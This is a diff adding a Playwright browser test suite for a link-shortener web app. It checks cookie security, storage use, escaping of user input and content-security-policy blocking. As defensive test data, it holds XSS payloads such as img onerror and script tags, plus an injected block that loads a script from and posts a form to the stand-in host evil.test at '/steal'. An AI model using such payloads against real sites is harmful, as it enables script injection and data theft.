@@ -1,0 +1,176 @@
+import type { Browser, Page } from 'playwright-core'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+import { bearer, environmentFor, operator, setUp, shorten } from '../process/support/accounts.ts'
+import { type Program, startProgram } from '../process/support/program.ts'
+import { openStorage, type Storage } from '../support/storage.ts'
+import { launchChromium } from './support/chromium.ts'
+import { startOtherSite } from './support/other-site.ts'
+import { signInAs, visit } from './support/visit.ts'
+
+let browser: Browser
+let storage: Storage
+let program: Program
+
+beforeAll(async () => {
+  browser = await launchChromium()
+  storage = await openStorage('sqlite')
+  program = await startProgram({ env: environmentFor(storage, { AUTH_TOKEN: bearer }) })
+  await setUp(program)
+})
+
+afterAll(async () => {
+  await browser.close()
+  await program[Symbol.asyncDispose]()
+  await storage[Symbol.asyncDispose]()
+})
+
+describe('the browser keeps', () => {
+  it('a cookie that no script can read and that goes with the browser, and one that opens nothing', async () => {
+    await using ann = await visit(browser, program)
+    await signInAs(ann, operator)
+
+    const cookies = await ann.page.context().cookies()
+    const stored = {
+      domain: 'localhost',
+      path: '/',
+      httpOnly: true,
+      secure: false,
+      sameSite: 'Lax',
+    }
+    const inHalfAYear = Date.now() / 1_000 + 180 * 86_400
+    expect(cookies.toSorted((a, b) => a.name.localeCompare(b.name))).toEqual([
+      expect.objectContaining({
+        ...stored,
+        name: 'device-dev',
+        expires: expect.closeTo(inHalfAYear, -3),
+      }),
+      expect.objectContaining({ ...stored, name: 'session-dev', expires: -1 }),
+    ])
+    expect(await ann.page.evaluate(() => document.cookie)).toBe('')
+  })
+
+  it('a session longer for those who ask for it', async () => {
+    await using ann = await visit(browser, program)
+    await ann.open('/login')
+    await ann.page.getByLabel('Email').fill(operator.email)
+    await ann.page.getByLabel('Password').fill(operator.password)
+    await ann.page.getByLabel('Stay signed in').check()
+    await ann.page.getByRole('button', { name: 'Sign in' }).click()
+    await ann.page.waitForURL('/dashboard')
+
+    const cookies = await ann.page.context().cookies()
+    const [session] = cookies.filter(({ name }) => name === 'session-dev')
+    const days = ((session?.expires ?? 0) * 1_000 - Date.now()) / 86_400_000
+    expect(days).toBeGreaterThan(13)
+    expect(days).toBeLessThan(30.01)
+  })
+
+  it('nothing else', async () => {
+    await using ann = await visit(browser, program)
+    await signInAs(ann, operator)
+    for (const path of ['/', '/create', '/dashboard', '/login']) {
+      await ann.open(path)
+      const stored = await ann.page.evaluate(async () => [
+        ...Object.keys(localStorage),
+        ...Object.keys(sessionStorage),
+        ...(await indexedDB.databases()),
+        ...(await caches.keys()),
+        ...(await navigator.serviceWorker.getRegistrations()),
+      ])
+      expect([path, stored]).toEqual([path, []])
+    }
+  })
+})
+
+describe('what somebody typed', () => {
+  const markup = `"><img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'&lt;b&gt;`
+
+  /** It is there as text, letter by letter, and nothing of it has come to life. */
+  async function expectHarmless(page: Page): Promise<void> {
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+    expect(await page.locator('main img, main script').count()).toBe(0)
+  }
+
+  it('is only text where the dashboard says what was looked for', async () => {
+    await using ann = await visit(browser, program)
+    await shorten(program, 'https://example.com/')
+    await signInAs(ann, operator)
+    await ann.open(`/dashboard?q=${encodeURIComponent(markup)}`)
+    expect(await ann.page.locator('main').innerText()).toContain(markup)
+    expect(await ann.page.getByLabel('Find in your links').inputValue()).toBe(markup)
+    await expectHarmless(ann.page)
+    expect(ann.errors).toEqual([])
+  })
+
+  it('is only text where a form comes back', async () => {
+    await using ann = await visit(browser, program)
+    await signInAs(ann, operator)
+    await ann.open('/create')
+    const form = ann.page.locator('main form')
+    await form.evaluate((element: HTMLFormElement) => {
+      element.noValidate = true
+    })
+    await ann.page.getByLabel('Long URL').fill(markup)
+    await ann.page.getByRole('button', { name: 'Shorten' }).click()
+    await ann.page.locator('[aria-invalid]').first().waitFor()
+    expect(await ann.page.getByLabel('Long URL').inputValue()).toBe(markup)
+    await expectHarmless(ann.page)
+    expect(ann.errors).toEqual([])
+  })
+
+  it('is only text where a link says where it leads', async () => {
+    await using ann = await visit(browser, program)
+    const destination = `https://example.com/'onclick='window.pwned=1'#&quot;&lt;script&gt;`
+    const code = await shorten(program, destination)
+    await signInAs(ann, operator)
+    for (const path of [`/${code}+`, '/dashboard', `/links/${code}/edit`]) {
+      await ann.open(path)
+      const shown = ann.page.getByLabel('Long URL').or(ann.page.getByText(destination))
+      expect(await shown.count()).toBe(1)
+      await expectHarmless(ann.page)
+    }
+    expect(ann.errors).toEqual([])
+  })
+})
+
+it('runs no script that was slipped into a page, and sends no form away', async () => {
+  await using otherBrowser = await startOtherSite()
+  await using ann = await visit(browser, program)
+  const { page } = ann
+  const slipped = `<script>window.pwned = 'inline'</script>
+    <img src="x" onerror="window.pwned = 'handler'">
+    <script src="${otherBrowser.urlOf('evil.test', '/pwn.js')}"></script>
+    <script nonce="">window.pwned = 'nonce'</script>
+    <base href="${otherBrowser.urlOf('evil.test', '/')}">
+    <form id="away" action="${otherBrowser.urlOf('evil.test', '/steal')}" method="post"></form>
+    <iframe src="${otherBrowser.urlOf('evil.test', '/frame')}"></iframe>
+    <img src="${otherBrowser.urlOf('evil.test', '/pixel')}">`
+  await page.route('**/login', async (route) => {
+    const response = await route.fetch()
+    const body = (await response.text()).replace('</main>', `${slipped}</main>`)
+    await route.fulfill({ response, body })
+  })
+
+  await ann.open('/login')
+  await page.locator('#away').evaluate((form: HTMLFormElement) => form.submit())
+  await expect
+    .poll(() => ann.errors.filter((text) => /form-action/.test(text)), { timeout: 10_000 })
+    .toHaveLength(1)
+
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
+  expect(await page.evaluate(() => document.baseURI)).toBe(`${program.baseUrl}/login`)
+  expect(otherBrowser.requestedPaths).toEqual([])
+  const blocked = ann.errors.join('\n')
+  for (const directive of ['script-src', 'img-src', 'base-uri'])
+    expect(blocked).toContain(directive)
+})
+
+it('leads from the number of the machine to its own address', async () => {
+  await using ann = await visit(browser, program)
+  await ann.page.goto(`http://127.0.0.1:${program.port}/login?next=%2Fcreate`)
+  expect(ann.page.url()).toBe(`${program.baseUrl}/login?next=%2Fcreate`)
+  await ann.page.getByLabel('Email').fill(operator.email)
+  await ann.page.getByLabel('Password').fill(operator.password)
+  await ann.page.getByRole('button', { name: 'Sign in' }).click()
+  await ann.page.waitForURL('/create')
+})
